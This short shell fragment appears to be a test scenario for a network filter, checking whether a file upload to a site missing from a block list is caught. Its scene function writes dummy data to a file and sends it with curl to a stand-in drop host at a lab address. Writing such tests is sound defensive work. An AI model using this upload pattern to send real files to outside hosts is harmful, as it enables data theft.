# A site of the same kind under a name that is not in the list.
PAYLOAD=full
peers() { sink 80; }
scene() { seq 100 > file; curl -s -m 1 --resolve drop.example.org:80:10.200.1.2 -T file http://drop.example.org/file; }
